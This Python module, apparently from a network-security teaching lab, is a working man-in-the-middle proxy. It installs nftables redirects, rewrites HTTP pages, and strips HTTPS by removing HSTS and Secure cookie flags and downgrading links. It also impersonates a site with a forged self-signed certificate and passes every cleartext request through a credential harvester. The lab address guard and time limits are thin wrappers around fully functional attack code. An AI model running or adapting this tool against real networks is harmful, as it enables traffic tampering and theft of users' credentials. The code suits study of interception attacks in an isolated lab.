"""A transparent proxy on the attacker: rewrite HTTP pages, strip HTTPS, or impersonate the site.

Run inside the attacker's lab host once it is on the path (arpspoof, or mitm which runs both):
    python -m experiments.attacks.proxy --mode rewrite --iface attacker-eth0 --lab-net 10.0.0.0/24 \
        --victim client=10.0.0.100 --victim lb1=10.0.0.10 --duration 10

An nftables `redirect` in this host's own namespace (a table named after the process, removed at
the end) sends the victims' connections to one another's port (80, or 443 to impersonate) to the
proxy; the proxy reads the original destination back (SO_ORIGINAL_DST), relays one request per
connection, and
  rewrite      puts a visible marker into every HTML page coming back over plain HTTP;
  strip        answers the client in plain HTTP with what it fetched over HTTPS itself (SSL
               stripping): https:// links and redirects become http://, HSTS and Secure cookie
               flags are removed, so the client never leaves HTTP;
  impersonate  answers TLS on 443 with its own self-signed certificate for www.foobar.com, and
               relays to the real site if the client accepts it.
Everything the client sends in the clear goes through the credential harvester. Bounded: at most
MAX_CLIENTS connections at once, per-socket timeouts, message size limits, --duration.
"""
from __future__ import annotations

import argparse
import hashlib
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO

try:
    from experiments.attacks.events import EventLog, fail, stop_on_signals
    from experiments.attacks.guard import AddressGuard, GuardError
    from experiments.attacks.harvest import Harvester, reporter, secrets_of
except ImportError:  # run by file path
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
    from experiments.attacks.events import EventLog, fail, stop_on_signals
    from experiments.attacks.guard import AddressGuard, GuardError
    from experiments.attacks.harvest import Harvester, reporter, secrets_of

MODES = ("rewrite", "strip", "impersonate")
# mode -> (the victims' port it intercepts, the port it fetches from upstream, TLS to the client, TLS upstream)
PORTS = {"rewrite": (80, 80, False, False), "strip": (80, 443, False, True),
         "impersonate": (443, 443, True, True)}
MARKER = "TAMPERED-BY-WEBLAB-ATTACKER"
FORGED_NAMES = ("www.foobar.com", "foobar.com")
MAX_CLIENTS = 32
MAX_HEAD = 64 * 1024
MAX_BODY = 4 * 1024 * 1024
SOCKET_TIMEOUT = 5.0
SO_ORIGINAL_DST = 80  # linux/netfilter_ipv4.h
HOP_HEADERS = ("connection", "keep-alive", "proxy-connection", "transfer-encoding", "te", "trailer", "upgrade")


class HttpError(ValueError):
    """A message the proxy cannot read (truncated, too large, malformed)."""


@dataclass
class Message:
    """One HTTP/1.x message: start line, headers in order, body (de-chunked)."""

    start: str
    headers: list[tuple[str, str]] = field(default_factory=list)
    body: bytes = b""

    def get(self, name: str) -> str | None:
        return next((v for k, v in self.headers if k.lower() == name.lower()), None)

    def remove(self, *names: str) -> None:
        lower = {n.lower() for n in names}
        self.headers = [(k, v) for k, v in self.headers if k.lower() not in lower]

    def set(self, name: str, value: str) -> None:
        self.remove(name)
        self.headers.append((name, value))

    def encode(self) -> bytes:
        """The message framed by Content-Length (no chunking), ready to send."""
        lines = [self.start] + [f"{k}: {v}" for k, v in self.headers]
        return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + self.body

    @property
    def status(self) -> int:
        parts = self.start.split(" ", 2)
        return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0


def read_head(rfile: IO[bytes]) -> bytes:
    """Bytes up to the blank line that ends an HTTP head (bounded)."""
    data = b""
    while not data.endswith(b"\r\n\r\n"):
        line = rfile.readline(MAX_HEAD + 1)
        if not line:
            raise HttpError("connection closed before the end of the head" if data else "no request")
        data += line
        if len(data) > MAX_HEAD:
            raise HttpError(f"head longer than {MAX_HEAD} bytes")
        if data in (b"\r\n", b"\n"):
            data = b""  # tolerate a stray CRLF between messages
    return data


def parse_head(head: bytes) -> Message:
    """The start line and headers of a head."""
    lines = head.decode("latin-1").split("\r\n")
    start, headers = lines[0], []
    for line in lines[1:]:
        if not line:
            continue
        name, sep, value = line.partition(":")
        if not sep:
            raise HttpError(f"malformed header line {line[:60]!r}")
        headers.append((name.strip(), value.strip()))
    return Message(start, headers)


def read_body(rfile: IO[bytes], msg: Message, response: bool, method: str = "GET") -> bytes:
    """The body of msg by its framing: chunked, Content-Length, or (responses) until close; bounded."""
    if response and (method == "HEAD" or msg.status in (204, 304) or 100 <= msg.status < 200):
        return b""
    if "chunked" in (msg.get("Transfer-Encoding") or "").lower():
        return _read_chunked(rfile)
    length = msg.get("Content-Length")
    if length is not None:
        if not length.isdigit() or int(length) > MAX_BODY:
            raise HttpError(f"Content-Length {length!r} refused")
        body = rfile.read(int(length))
        if len(body) != int(length):
            raise HttpError("connection closed inside the body")
        return body
    if not response:
        return b""
    body = rfile.read(MAX_BODY + 1)
    if len(body) > MAX_BODY:
        raise HttpError(f"body longer than {MAX_BODY} bytes")
    return body


def _read_chunked(rfile: IO[bytes]) -> bytes:
    body = b""
    while True:
        line = rfile.readline(1024)
        if not line:
            raise HttpError("connection closed inside a chunked body")
        size = int(line.split(b";", 1)[0].strip() or b"0", 16)
        if size == 0:
            while rfile.readline(1024) not in (b"\r\n", b"\n", b""):
                pass  # trailers
            return body
        body += rfile.read(size)
        rfile.readline(1024)
        if len(body) > MAX_BODY:
            raise HttpError(f"body longer than {MAX_BODY} bytes")


def read_message(rfile: IO[bytes], response: bool, method: str = "GET") -> Message:
    """One whole message from a stream."""
    msg = parse_head(read_head(rfile))
    msg.body = read_body(rfile, msg, response, method)
    return msg


def prepare_request(req: Message) -> Message:
    """The request as the proxy forwards it: one per connection, uncompressed (so it can be read)."""
    out = Message(req.start, list(req.headers), req.body)
    out.remove(*HOP_HEADERS, "accept-encoding")
    out.set("Connection", "close")
    if out.body or out.get("Content-Length") is not None:
        out.set("Content-Length", str(len(out.body)))
    return out


def _reframe(resp: Message) -> Message:
    resp.remove(*HOP_HEADERS, "content-length")
    resp.set("Content-Length", str(len(resp.body)))
    resp.set("Connection", "close")
    return resp


def is_html(msg: Message) -> bool:
    return "text/html" in (msg.get("Content-Type") or "").lower()


def rewrite_response(resp: Message, marker: str = MARKER) -> tuple[Message, bool]:
    """A visible marker in an HTML page (before </body>, else at the end); (message, tampered?)."""
    out = Message(resp.start, list(resp.headers), resp.body)
    tampered = False
    if is_html(out) and not (out.get("Content-Encoding") or "").strip():
        tag = f'<p id="weblab-tampered" style="color:red">{marker}</p>'.encode()
        at = out.body.lower().rfind(b"</body>")
        out.body = out.body[:at] + tag + out.body[at:] if at >= 0 else out.body + tag
        tampered = True
    return _reframe(out), tampered


_HTTPS = re.compile(rb"https://", re.IGNORECASE)
_SECURE = re.compile(r";\s*secure\b", re.IGNORECASE)


def strip_response(resp: Message) -> tuple[Message, list[str]]:
    """The HTTPS answer made fit for a plain-HTTP client; (message, what was stripped)."""
    out = Message(resp.start, list(resp.headers), resp.body)
    done = []
    if out.get("Strict-Transport-Security") is not None:
        out.remove("Strict-Transport-Security")
        done.append("hsts")
    location = out.get("Location")
    if location and location.lower().startswith("https://"):
        out.set("Location", "http://" + location[len("https://"):])
        done.append("redirect")
    cookies = [(k, v) for k, v in out.headers if k.lower() == "set-cookie"]
    if any(_SECURE.search(v) for _, v in cookies):
        out.headers = [(k, _SECURE.sub("", v) if k.lower() == "set-cookie" else v) for k, v in out.headers]
        done.append("secure-cookie")
    if not (out.get("Content-Encoding") or "").strip() and _HTTPS.search(out.body):
        out.body = _HTTPS.sub(b"http://", out.body)
        done.append("links")
    return _reframe(out), done


def nft_table(pid: int | None = None) -> str:
    """The name of this process's nftables table (so only its own rules are ever removed)."""
    return f"weblab_attack_{os.getpid() if pid is None else pid}"


def nft_ruleset(table: str, iface: str, victims: list[str], dport: int, to_port: int) -> str:
    """An nft script redirecting the victims' connections to one another's dport to the proxy."""
    peers = ", ".join(victims)
    return (f"table ip {table} {{\n"
            f"  chain prerouting {{\n"
            f"    type nat hook prerouting priority dstnat; policy accept;\n"
            f"    iifname \"{iface}\" ip saddr {{ {peers} }} ip daddr {{ {peers} }} tcp dport {dport} "
            f"redirect to :{to_port}\n"
            f"  }}\n}}\n")


class Redirect:
    """The nftables redirect of this host: apply() installs the table, remove() deletes exactly it."""

    def __init__(self, iface: str, victims: list[str], dport: int, to_port: int):
        self.table = nft_table()
        self.script = nft_ruleset(self.table, iface, victims, dport, to_port)
        self.applied = False

    def apply(self) -> None:
        res = subprocess.run(["nft", "-f", "-"], input=self.script, capture_output=True, text=True, timeout=10)
        if res.returncode != 0:
            raise GuardError(f"nft refused the redirect: {res.stderr.strip()}")
        self.applied = True

    def remove(self) -> bool:
        """Delete the table (idempotent); True when it is gone."""
        if self.applied:
            subprocess.run(["nft", "delete", "table", "ip", self.table], capture_output=True, timeout=10)
            self.applied = False
        res = subprocess.run(["nft", "list", "table", "ip", self.table], capture_output=True, timeout=10)
        return res.returncode != 0


def forge_certificate(directory: Path, names: tuple[str, ...] = FORGED_NAMES) -> tuple[Path, Path, str]:
    """A self-signed certificate and key for names (the attacker's own); (cert, key, SHA-256 fingerprint)."""
    cert, key = directory / "forged.crt", directory / "forged.key"
    san = ",".join(f"DNS:{n}" for n in names)
    res = subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
                          "-nodes", "-keyout", str(key), "-out", str(cert), "-days", "1",
                          "-subj", f"/O=not the site/CN={names[0]}", "-addext", f"subjectAltName={san}"],
                         capture_output=True, text=True, timeout=30)
    if res.returncode != 0:
        raise GuardError(f"openssl could not make the forged certificate: {res.stderr.strip()}")
    der = ssl.PEM_cert_to_DER_cert(cert.read_text())
    return cert, key, hashlib.sha256(der).hexdigest()


def original_dst(sock: socket.socket) -> tuple[str, int]:
    """Where a redirected connection was going (netfilter's SO_ORIGINAL_DST)."""
    raw = sock.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
    port, packed = struct.unpack_from("!2xH4s", raw)
    return socket.inet_ntoa(packed), port


class Proxy:
    """The listening proxy: one thread per client connection (bounded), until stop()."""

    def __init__(self, mode: str, listen_ip: str, port: int, guard: AddressGuard, log: EventLog,
                 harvester: Harvester, marker: str = MARKER, certdir: Path | None = None):
        if mode not in MODES:
            raise GuardError(f"--mode {mode!r}: one of {', '.join(MODES)}")
        self.mode, self.guard, self.log, self.harvester, self.marker = mode, guard, log, harvester, marker
        self.intercept_port, self.upstream_port, tls_in, tls_out = PORTS[mode]
        self.server_ctx = self.client_ctx = None
        self.fingerprint = ""
        if tls_in:
            cert, key, self.fingerprint = forge_certificate(Path(certdir or tempfile.gettempdir()))
            self.server_ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self.server_ctx.load_cert_chain(str(cert), str(key))
            self.server_ctx.set_alpn_protocols(["http/1.1"])
        if tls_out:  # the attacker does not care whom it talks to upstream
            self.client_ctx = ssl.create_default_context()
            self.client_ctx.check_hostname = False
            self.client_ctx.verify_mode = ssl.CERT_NONE
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((listen_ip, port))
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.stop_event = threading.Event()
        self.slots = threading.BoundedSemaphore(MAX_CLIENTS)
        self.thread = threading.Thread(target=self._serve, name="proxy", daemon=True)
        self.workers: list[threading.Thread] = []
        self.exchanges = 0
        self.tampered = 0

    def start(self) -> "Proxy":
        self.log("proxy_listening", mode=self.mode, port=self.port, intercepts=self.intercept_port,
                 forged_sha256=self.fingerprint or None)
        self.thread.start()
        return self

    def stop(self) -> None:
        self.stop_event.set()
        self.thread.join(timeout=5)
        for t in self.workers:
            t.join(timeout=SOCKET_TIMEOUT + 1)
        self.sock.close()
        self.log("proxy_stopped", exchanges=self.exchanges, tampered=self.tampered)

    def _serve(self) -> None:
        while not self.stop_event.is_set():
            try:
                conn, addr = self.sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            if not self.slots.acquire(blocking=False):
                self.log("proxy_busy", client=f"{addr[0]}:{addr[1]}")
                conn.close()
                continue
            t = threading.Thread(target=self._one, args=(conn, addr), daemon=True)
            t.start()
            self.workers = [w for w in self.workers if w.is_alive()] + [t]

    def _one(self, conn: socket.socket, addr: tuple[str, int]) -> None:
        try:
            conn.settimeout(SOCKET_TIMEOUT)
            self.exchange(conn, addr)
        except (OSError, HttpError, GuardError) as err:
            self.log("proxy_error", client=f"{addr[0]}:{addr[1]}", error=f"{type(err).__name__}: {err}")
        finally:
            conn.close()
            self.slots.release()

    def exchange(self, conn: socket.socket, addr: tuple[str, int]) -> None:
        """One client connection: (TLS), request, upstream, transformed response."""
        dst_ip, dst_port = original_dst(conn)
        self.guard.check(dst_ip, "original destination")
        client = f"{addr[0]}:{addr[1]}"
        if self.server_ctx is not None:
            try:
                conn = self.server_ctx.wrap_socket(conn, server_side=True)
            except (ssl.SSLError, OSError) as err:
                # The client refused the forged certificate: nothing was sent in the clear.
                self.log("tls_rejected", client=client, dst=f"{dst_ip}:{dst_port}",
                         reason=getattr(err, "reason", None) or str(err))
                self.log.say(f"  TLS handshake refused by {client}: {getattr(err, 'reason', None) or err}")
                return
            self.log("tls_accepted", client=client, dst=f"{dst_ip}:{dst_port}")
        try:
            self._relay(conn, client, dst_ip, dst_port, addr)
        finally:
            conn.close()  # the TLS socket when wrapped (the plain one is closed by the caller)

    def _relay(self, conn: socket.socket, client: str, dst_ip: str, dst_port: int, addr: tuple[str, int]) -> None:
        """Read the client's request, fetch the answer upstream, transform it, send it back."""
        with conn.makefile("rb") as rfile:
            req = read_message(rfile, response=False)
        method = req.start.split(" ", 1)[0]
        flow = (addr[0], addr[1], dst_ip, dst_port)
        found = self.harvester.feed(flow, req.encode(), source=f"proxy-{self.mode}")
        host = req.get("Host") or dst_ip
        self.log("request", client=client, dst=f"{dst_ip}:{dst_port}", line=req.start[:200], host=host,
                 credentials=[m.to_dict() for m in secrets_of(found)])
        self.log.say(f"  {self.mode}: {client} -> {host} {req.start[:100]}")
        resp = self.upstream(dst_ip, host.split(":")[0], prepare_request(req), method)
        tampered, stripped = False, []
        if self.mode == "rewrite":
            resp, tampered = rewrite_response(resp, self.marker)
        elif self.mode == "strip":
            resp, stripped = strip_response(resp)
        else:
            resp = _reframe(resp)
        conn.sendall(resp.encode())
        self.exchanges += 1
        self.tampered += tampered
        self.log("response", client=client, line=resp.start[:100], status=resp.status, bytes=len(resp.body),
                 tampered=tampered, stripped=stripped)

    def upstream(self, ip: str, host: str, req: Message, method: str) -> Message:
        """The real site's answer to req (over TLS when the mode fetches HTTPS)."""
        sock = socket.create_connection((ip, self.upstream_port), timeout=SOCKET_TIMEOUT)
        try:
            if self.client_ctx is not None:
                sock = self.client_ctx.wrap_socket(sock, server_hostname=host)
            sock.sendall(req.encode())
            with sock.makefile("rb") as rfile:
                return read_message(rfile, response=True, method=method)
        finally:
            sock.close()


def main(argv: list[str] | None = None) -> int:
    """Redirect, proxy, and remove the redirect at the end (assumes this host is on the path)."""
    from experiments.attacks.arpspoof import check_duration, iface_addresses, parse_victim
    ap = argparse.ArgumentParser(prog="python -m experiments.attacks.proxy", description=__doc__.splitlines()[0])
    ap.add_argument("--mode", choices=MODES, required=True)
    ap.add_argument("--iface", required=True)
    ap.add_argument("--lab-net", action="append", default=[], required=True)
    ap.add_argument("--victim", action="append", default=[], required=True, help="NAME=ADDRESS (two)")
    ap.add_argument("--duration", type=float, required=True)
    ap.add_argument("--port", type=int, default=0, help="the proxy's local port (default: any free one)")
    ap.add_argument("--marker", default=MARKER)
    ap.add_argument("--log")
    a = ap.parse_args(argv)
    stream = open(a.log, "a", encoding="utf-8") if a.log else None
    log = EventLog(stream, sys.stdout)
    stop = stop_on_signals()
    try:
        check_duration(a.duration)
        guard = AddressGuard(a.lab_net)
        _, my_ip, _ = iface_addresses(a.iface)
        guard.check_own(my_ip, a.iface)
        victims = [guard.check(parse_victim(v)[1]) for v in a.victim]
        with tempfile.TemporaryDirectory(prefix="weblab-attack-") as certdir:
            proxy = Proxy(a.mode, my_ip, a.port, guard, log, Harvester(None, reporter(log)), a.marker, Path(certdir))
            redirect = Redirect(a.iface, victims, proxy.intercept_port, proxy.port)
            try:
                redirect.apply()
                proxy.start()
                stop.wait(a.duration)
            finally:
                proxy.stop()
                log("redirect_removed", table=redirect.table, gone=redirect.remove())
    except GuardError as err:
        return fail(str(err))
    finally:
        if stream:
            stream.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
